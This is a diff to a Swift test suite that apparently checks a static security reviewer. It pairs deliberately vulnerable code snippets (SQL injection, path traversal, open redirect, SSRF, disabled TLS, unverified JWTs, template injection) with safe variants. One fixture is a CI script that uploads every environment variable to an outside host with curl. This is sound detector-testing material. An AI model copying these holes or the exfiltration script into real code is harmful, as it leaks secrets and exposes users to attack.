@@ -1781,6 +1781,314 @@ import Testing
     ])
     func batchThirtyEightClasses(_ example: Example) { Self.check(example) }
 
+    /// Classes of blind batch 39 (static-23), each with a near miss.
+    @Test(arguments: [
+        Example(
+            "Sources/App/Repositories/RowRepository.swift",
+            "func list(req: Request) async throws -> [Row] {\n    let (column, direction): (String, String)\n"
+                + "    switch try req.query.get(Sort.self, at: \"sort\") {\n"
+                + "    case .newest: (column, direction) = (\"created_at\", \"DESC\")\n"
+                + "    case .oldest: (column, direction) = (\"created_at\", \"ASC\")\n    }\n"
+                + "    return try await sql.raw(\"SELECT id FROM rows ORDER BY \\(unsafeRaw: column) "
+                + "\\(unsafeRaw: direction)\").all(decoding: Row.self)\n}\n",
+            nil),
+        Example(
+            "Sources/App/Repositories/RowRepository.swift",
+            "func list(req: Request) async throws -> [Row] {\n"
+                + "    let column = req.query[String.self, at: \"sort\"] ?? \"created_at\"\n"
+                + "    return try await sql.raw(\"SELECT id FROM rows ORDER BY \\(unsafeRaw: column)\")"
+                + ".all(decoding: Row.self)\n}\n",
+            "code.sql-string-built"),
+        Example(
+            "Sources/App/Controllers/DocumentsController.swift",
+            "enum Rendition: String, Decodable {\n    case source, thumbnail\n}\n\n"
+                + "func file(req: Request) async throws -> Response {\n    let rendition: Rendition\n"
+                + "    rendition = try req.query.get(Rendition.self, at: \"size\")\n"
+                + "    return req.fileio.streamFile(at: root + \"/\" + rendition.rawValue)\n}\n",
+            nil),
+        Example(
+            "Sources/App/Controllers/DocumentsController.swift",
+            "func file(req: Request) async throws -> Response {\n"
+                + "    let rendition: String = req.query[String.self, at: \"size\"] ?? \"source\"\n"
+                + "    return req.fileio.streamFile(at: root + \"/\" + rendition)\n}\n",
+            "code.path-traversal"),
+        Example(
+            "src/main/kotlin/app/routes/AuthRoutes.kt",
+            "private fun backTo(call: ApplicationCall): String {\n"
+                + "    val target = call.request.queryParameters[\"continue\"] ?: return \"/\"\n"
+                + "    return if (target.startsWith(\"/\")) target else \"/\"\n}\n\n"
+                + "fun Route.logout() {\n    get(\"/logout\") {\n        call.respondRedirect(backTo(call))\n    "
+                + "}\n}\n",
+            "code.open-redirect"),
+        Example(
+            "src/main/kotlin/app/routes/AuthRoutes.kt",
+            "private fun backTo(call: ApplicationCall): String {\n"
+                + "    val target = call.request.queryParameters[\"continue\"] ?: return \"/\"\n"
+                + "    return if (target.startsWith(\"/\") && !target.startsWith(\"//\")) target else \"/\"\n}\n\n"
+                + "fun Route.logout() {\n    get(\"/logout\") {\n        call.respondRedirect(backTo(call))\n    "
+                + "}\n}\n",
+            nil),
+        Example(
+            "src/handlers/session.rs",
+            "#[post(\"/login\")]\npub async fn login(form: web::Form<LoginForm>) -> impl Responder {\n"
+                + "    HttpResponse::SeeOther()\n        .insert_header((LOCATION, form.next.clone()))\n"
+                + "        .finish()\n}\n",
+            "code.open-redirect"),
+        Example(
+            "src/auth/routes.js",
+            "function localTarget(raw) {\n  const target = new URL(raw, config.appOrigin);\n"
+                + "  if (target.origin !== config.appOrigin) return '/';\n  return target.pathname;\n}\n\n"
+                + "router.get('/callback', (req, res) => {\n  res.redirect(localTarget(req.query.next));\n});\n",
+            nil),
+        Example(
+            "src/main/java/app/OrderRepository.java",
+            "class OrderRepository {\n    private static String orderBy(String key) {\n"
+                + "        String column = SORT_COLUMNS.getOrDefault(key, \"created_at\");\n"
+                + "        return \" ORDER BY \" + column + \" DESC\";\n    }\n\n"
+                + "    List<Order> search(String sort) {\n"
+                + "        String sql = BASE_SQL + orderBy(sort) + \" LIMIT 50\";\n"
+                + "        return jdbc.query(sql, mapper);\n    }\n}\n",
+            nil),
+        Example(
+            "src/main/java/app/OrderRepository.java",
+            "class OrderRepository {\n    private static String orderBy(String key) {\n"
+                + "        return \" ORDER BY \" + key + \" DESC\";\n    }\n\n"
+                + "    List<Order> search(String sort) {\n"
+                + "        String sql = BASE_SQL + orderBy(sort) + \" LIMIT 50\";\n"
+                + "        return jdbc.query(sql, mapper);\n    }\n}\n",
+            "code.sql-string-built"),
+        Example(
+            "app/controllers/orders_controller.rb",
+            "class OrdersController < ApplicationController\n  def index\n"
+                + "    @orders = Order.order(Arel.sql(\"#{SORTS.fetch(params[:sort], 'placed_at')} #{direction}\"))\n"
+                + "  end\n\n  def direction\n    params[:dir] == \"asc\" ? \"ASC\" : \"DESC\"\n  end\nend\n",
+            nil),
+        Example(
+            "app/controllers/orders_controller.rb",
+            "class OrdersController < ApplicationController\n  def index\n"
+                + "    @orders = Order.order(Arel.sql(\"placed_at #{direction}\"))\n"
+                + "  end\n\n  def direction\n    params[:dir]\n  end\nend\n",
+            "code.sql-string-built"),
+        Example(
+            "internal/media/avatars.go",
+            "var presets = map[string]preset{\n\t\"sm\": {suffix: \"64\"},\n\t\"lg\": {suffix: \"256\"},\n}\n\n"
+                + "func (a *API) Avatar(c *gin.Context) {\n\tp, ok := presets[c.DefaultQuery(\"size\", \"lg\")]\n"
+                + "\tif !ok {\n\t\treturn\n\t}\n\tc.File(filepath.Join(a.CacheDir, p.suffix+\".webp\"))\n}\n",
+            nil),
+        Example(
+            "internal/media/avatars.go",
+            "func (a *API) Avatar(c *gin.Context) {\n\tsize := c.DefaultQuery(\"size\", \"lg\")\n"
+                + "\tc.File(filepath.Join(a.CacheDir, size+\".webp\"))\n}\n",
+            "code.path-traversal"),
+        Example(
+            "src/listings/repo.rs",
+            "pub async fn search(pool: &PgPool, text: &str) -> sqlx::Result<Vec<Listing>> {\n"
+                + "    let mut qb: QueryBuilder<Postgres> = QueryBuilder::new(\"SELECT id FROM listings WHERE "
+                + "true\");\n"
+                + "    qb.push(\" AND title ILIKE '%\")\n        .push(text)\n        .push(\"%'\");\n"
+                + "    qb.build_query_as::<Listing>().fetch_all(pool).await\n}\n",
+            "code.sql-string-built"),
+        Example(
+            "src/listings/repo.rs",
+            "pub async fn search(pool: &PgPool, text: &str) -> sqlx::Result<Vec<Listing>> {\n"
+                + "    let mut qb: QueryBuilder<Postgres> = QueryBuilder::new(\"SELECT id FROM listings WHERE "
+                + "true\");\n"
+                + "    qb.push(\" AND title ILIKE \")\n        .push_bind(format!(\"%{text}%\"));\n"
+                + "    qb.build_query_as::<Listing>().fetch_all(pool).await\n}\n",
+            nil),
+        Example(
+            "src/main/kotlin/app/TicketSearch.kt",
+            "class TicketSearch(private val em: EntityManager) {\n    private fun textFilter(text: String): String {\n"
+                + "        val needle = text.trim().lowercase()\n"
+                + "        return \" and (lower(t.subject) like '%$needle%')\"\n    }\n}\n",
+            "code.sql-string-built"),
+        Example(
+            "src/main/kotlin/app/TicketSearch.kt",
+            "class TicketSearch(private val em: EntityManager) {\n    private fun textFilter(): String {\n"
+                + "        return \" and (lower(t.subject) like :needle)\"\n    }\n}\n",
+            nil),
+        Example(
+            "Sources/App/Controllers/ExportController.swift",
+            "@Sendable func download(_ request: Request, context: Context) async throws -> Response {\n"
+                + "    guard let file = request.uri.queryParameters.get(\"file\") else { throw HTTPError(.badRequest) "
+                + "}\n"
+                + "    let url = exportsRoot.appendingPathComponent(file)\n"
+                + "    let data = FileManager.default.contents(atPath: url.path)\n    return Response(data)\n}\n",
+            "code.path-traversal"),
+        Example(
+            "Sources/App/Controllers/ExportController.swift",
+            "@Sendable func download(_ request: Request, context: Context) async throws -> Response {\n"
+                + "    guard let format = request.uri.queryParameters.get(\"format\") else { throw "
+                + "HTTPError(.badRequest) }\n"
+                + "    let url = exportsRoot.appendingPathComponent(\"latest.csv\")\n"
+                + "    let data = FileManager.default.contents(atPath: url.path)\n    return Response(data, "
+                + "format)\n}\n",
+            nil),
+        Example(
+            "Endpoints/PreviewEndpoints.cs",
+            "public static class PreviewEndpoints\n{\n    public static void Map(IEndpointRouteBuilder app)\n    {\n"
+                + "        app.MapPost(\"/previews\", Create);\n    }\n\n"
+                + "    private static async Task<string> Create(PreviewRequest body, IHttpClientFactory http)\n    {\n"
+                + "        if (!Uri.TryCreate(body.Url, UriKind.Absolute, out var target)) return \"\";\n"
+                + "        return await http.CreateClient(\"previews\").GetStringAsync(target);\n    }\n}\n",
+            "code.ssrf"),
+        Example(
+            "Endpoints/PreviewEndpoints.cs",
+            "public static class PreviewEndpoints\n{\n    public static void Map(IEndpointRouteBuilder app)\n    {\n"
+                + "        app.MapPost(\"/previews\", Create);\n    }\n\n"
+                + "    private static async Task<string> Create(PreviewRequest body, IHttpClientFactory http)\n    {\n"
+                + "        if (!Uri.TryCreate(body.Url, UriKind.Absolute, out var target)) return \"\";\n"
+                + "        if (!AllowedHosts.Contains(target.Host)) return \"\";\n"
+                + "        return await http.CreateClient(\"previews\").GetStringAsync(target);\n    }\n}\n",
+            nil),
+        Example(
+            "Caddyfile",
+            "shop.example.com {\n\treverse_proxy https://rates.partner.example {\n\t\ttransport http {\n"
+                + "\t\t\ttls_insecure_skip_verify\n\t\t}\n\t}\n}\n",
+            "code.tls-verify-disabled"),
+        Example(
+            "Caddyfile",
+            "shop.example.com {\n\treverse_proxy https://rates.partner.example {\n\t\ttransport http {\n"
+                + "\t\t\ttls_trusted_ca_certs /etc/caddy/partner-ca.pem\n\t\t}\n\t}\n}\n",
+            nil),
+        Example(
+            "Dockerfile",
+            "FROM node:20-slim\nARG GIT_SSH_KEY\n"
+                + "RUN mkdir -p /root/.ssh && printf '%s\\n' \"$GIT_SSH_KEY\" > /root/.ssh/id_ed25519 && npm ci\n",
+            "docker.build-secret-in-image"),
+        Example(
+            "Dockerfile",
+            "FROM node:20-slim\nRUN --mount=type=ssh npm ci\n", nil),
+        Example(
+            "Jenkinsfile",
+            "def changelogCmd(String title) {\n    return \"node changelog.mjs --title '${title}'\"\n}\n\n"
+                + "pipeline {\n  stages {\n    stage('Preview') {\n      steps {\n"
+                + "        sh changelogCmd(env.CHANGE_TITLE)\n      }\n    }\n  }\n}\n",
+            "ci.script-injection"),
+        Example(
+            "Jenkinsfile",
+            "pipeline {\n  stages {\n    stage('Preview') {\n      steps {\n"
+                + "        sh 'node changelog.mjs --title \"$CHANGE_TITLE\"'\n      }\n    }\n  }\n}\n",
+            nil),
+        Example(
+            "deploy/nginx/shop.conf",
+            "server {\n    location /build {\n        alias /srv/shop/storage/build/;\n    }\n}\n",
+            "infra.nginx-alias-traversal"),
+        Example(
+            "deploy/nginx/shop.conf",
+            "server {\n    location /build/ {\n        alias /srv/shop/storage/build/;\n    }\n}\n", nil),
+        Example(
+            "Auth/AuthenticationSetup.cs",
+            "options.TokenValidationParameters.SignatureValidator =\n    (token, _) => new JsonWebToken(token);\n",
+            "code.jwt-unverified"),
+        Example(
+            "Auth/AuthenticationSetup.cs",
+            "options.TokenValidationParameters.IssuerSigningKeys = legacyKeys.Concat(currentKeys);\n", nil),
+        Example(
+            "src/Notification/MessageRenderer.php",
+            "<?php\nclass MessageRenderer {\n    public function render(Override $override, array $context): string\n"
+                + "    {\n        return $this->twig->createTemplate($override->getBody())->render($context);\n    "
+                + "}\n}\n",
+            "code.template-injection"),
+        Example(
+            "src/Notification/MessageRenderer.php",
+            "<?php\nuse Twig\\Extension\\SandboxExtension;\nclass MessageRenderer {\n"
+                + "    public function render(Override $override, array $context): string\n    {\n"
+                + "        $this->twig->addExtension(new SandboxExtension($this->policy, true));\n"
+                + "        return $this->twig->createTemplate($override->getBody())->render($context);\n    }\n}\n",
+            nil),
+        Example(
+            "Sources/App/configure.swift",
+            "var tls = TLSConfiguration.makeClientConfiguration()\n"
+                + "tls.certificateVerification = Environment.get(\"STRICT_TLS\") == \"1\"\n"
+                + "    ? .fullVerification\n    : .none\n",
+            "code.tls-verify-disabled"),
+        Example(
+            "Sources/App/configure.swift",
+            "var tls = TLSConfiguration.makeClientConfiguration()\n"
+                + "tls.certificateVerification = Environment.get(\"INSECURE_TLS\") == \"1\"\n"
+                + "    ? .none\n    : .fullVerification\n",
+            nil),
+        Example(
+            "ci/collect-diagnostics.sh",
+            "#!/usr/bin/env bash\nset -euo pipefail\nprintenv | sort > \"$OUT/job-env.txt\"\n"
+                + "tar -C \"$OUT\" -czf diag.tgz .\n\nshare() {\n"
+                + "  curl -sS --upload-file diag.tgz \"https://files.example.net/diag.tgz\"\n}\nshare\n",
+            "ci.secrets-exfiltration"),
+        Example(
+            "ci/collect-diagnostics.sh",
+            "#!/usr/bin/env bash\nset -euo pipefail\nprintenv | grep '^APP_' > \"$OUT/job-env.txt\"\n"
+                + "tar -C \"$OUT\" -czf diag.tgz .\n\nshare() {\n"
+                + "  curl -sS --upload-file diag.tgz \"https://files.example.net/diag.tgz\"\n}\nshare\n",
+            nil),
+        Example(
+            "pages/api/admin/export.ts",
+            "// verify() kept failing after key rotation, so just read the claims here.\n"
+                + "function readClaims(token: string) {\n  return jwt.decode(token) as AdminClaims | null;\n}\n\n"
+                + "export default function handler(req, res) {\n"
+                + "  const claims = readClaims(req.headers.authorization?.slice(7) ?? '');\n"
+                + "  if (claims?.role !== 'admin') return res.status(403).end();\n  "
+                + "res.json(exportUsers(claims.org));\n}\n",
+            "code.jwt-unverified"),
+        Example(
+            "pages/api/admin/export.ts",
+            "function readClaims(token: string) {\n"
+                + "  return jwt.verify(token, process.env.ADMIN_JWT_SECRET!, { algorithms: ['HS256'] }) as "
+                + "AdminClaims;\n"
+                + "}\n\nexport default function handler(req, res) {\n"
+                + "  const claims = readClaims(req.headers.authorization?.slice(7) ?? '');\n"
+                + "  if (claims.role !== 'admin') return res.status(403).end();\n  "
+                + "res.json(exportUsers(claims.org));\n}\n",
+            nil),
+    ])
+    func batchThirtyNineClasses(_ example: Example) { Self.check(example) }
+
+    /// Openings and protections judged against what the change removed: a health probe opened on the chain line below
+    /// its route is public; a guarded catch-all made `permitAll()` opens the chain; XML hardening kept only under a
+    /// flag a caller turns off protects nothing.
+    @Test func openingsAndHardeningAcrossTheChange() {
+        let program =
+            "var app = builder.Build();\napp.MapGet(\"/admin/export\", Export)\n    .RequireAuthorization();\n"
+        let health = ReviewCase(
+            "open", "Program.cs", before: program,
+            program + "app.MapHealthChecks(\"/healthz/live\")\n    .AllowAnonymous();\n", risky: false)
+        let export = ReviewCase(
+            "open", "Program.cs", before: program,
+            program.replacingOccurrences(of: ".RequireAuthorization();", with: ".AllowAnonymous();"), risky: true)
+        let chain =
+            "http.authorizeHttpRequests(auth -> auth\n        .requestMatchers(\"/actuator/health\").permitAll()\n"
+            + "        .anyRequest().hasRole(\"OPS\"));\n"
+        let catchAll = ReviewCase(
+            "open", "src/main/java/app/SecurityConfig.java", before: chain,
+            chain.replacingOccurrences(of: ".anyRequest().hasRole(\"OPS\")", with: ".anyRequest().permitAll()"),
+            risky: true)
+        let narrowed = ReviewCase(
+            "open", "src/main/java/app/SecurityConfig.java", before: chain,
+            chain.replacingOccurrences(of: "hasRole(\"OPS\")", with: "hasAnyRole(\"OPS\", \"SRE\")"), risky: false)
+        let parser =
+            "static DocumentBuilder newBuilder() throws Exception {\n"
+            + "    DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
+            + "    dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n"
+            + "    return dbf.newDocumentBuilder();\n}\n\nDocument parse(InputStream in) throws Exception {\n"
+            + "    return newBuilder().parse(in);\n}\n"
+        let lenient =
+            parser.replacingOccurrences(of: "newBuilder() throws", with: "newBuilder(boolean strict) throws")
+            .replacingOccurrences(
+                of: "    dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n",
+                with: "    if (strict) {\n"
+                    + "        dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n    "
+                    + "}\n")
+        let flagged = ReviewCase(
+            "xxe", "src/main/java/app/Parser.java", before: parser,
+            lenient.replacingOccurrences(of: "newBuilder().parse", with: "newBuilder(false).parse"), risky: true)
+        let strict = ReviewCase(
+            "xxe", "src/main/java/app/Parser.java", before: parser,
+            lenient.replacingOccurrences(of: "newBuilder().parse", with: "newBuilder(true).parse"), risky: false)
+        for change in [health, export, catchAll, narrowed, flagged, strict] {
+            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
+        }
+    }
+
     /// A class-wide opening in a class the change adds is judged by the class's name: a health probe may be open to
     /// anyone, an export may not. A request once sent through a client that refuses internal addresses, now through a
     /// plain one, reaches them.
@@ -1839,7 +2147,8 @@ import Testing
             risky: true)
         let dropped = ReviewCase(
             "xxe", "Import.java", before: before,
-            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\ndbf.setCoalescing(true);\nreturn dbf;\n",
+            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\ndbf.setCoalescing(true);\nreturn "
+                + "dbf;\n",
             risky: true)
         let moved = ReviewCase(
             "xxe", "Import.java", before: before, "// hardened below\n" + before, risky: false)
